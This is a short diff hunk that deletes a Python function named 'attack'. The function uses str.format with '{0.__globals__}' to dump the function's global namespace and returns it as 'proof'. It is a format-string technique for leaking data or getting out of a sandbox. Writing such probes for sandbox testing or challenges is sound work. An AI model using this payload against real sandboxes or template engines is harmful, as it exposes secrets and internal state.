@@ -1,2 +1,0 @@
-def attack():
-    return {"proof": getattr("{0.__globals__}", "format")(attack)}
